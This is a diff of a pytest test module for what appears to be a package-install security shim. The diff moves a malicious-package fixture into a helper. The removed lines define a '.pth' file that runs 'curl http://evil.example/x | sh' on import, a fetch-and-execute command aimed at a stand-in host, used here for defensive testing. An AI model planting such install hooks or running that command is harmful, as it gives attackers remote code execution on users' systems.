@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import DistFactory, PackageIndex
-from tests.helpers.dists import DistSpec
+from tests.helpers.agents import clean_and_hooked
 from tests.helpers.policies import without_provenance_requirement
 
 pytestmark = [
@@ -23,21 +23,10 @@ pytestmark = [
     pytest.mark.skipif(sys.platform == "win32", reason="the shim wraps POSIX environments only"),
 ]
 
-HOOKED = DistSpec(
-    "hookpkg",
-    "1.0",
-    files={
-        "hookpkg/__init__.py": "",
-        "hookpkg_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n",
-    },
-)
-
 
 @pytest.fixture
 def index(dist_factory: DistFactory, package_index: PackageIndex) -> PackageIndex:
-    package_index.add(dist_factory.wheel("cleanpkg", "1.0"))
-    package_index.add(dist_factory.wheel(HOOKED))
-    return package_index
+    return clean_and_hooked(dist_factory, package_index)
 
 
 @pytest.fixture(scope="module")
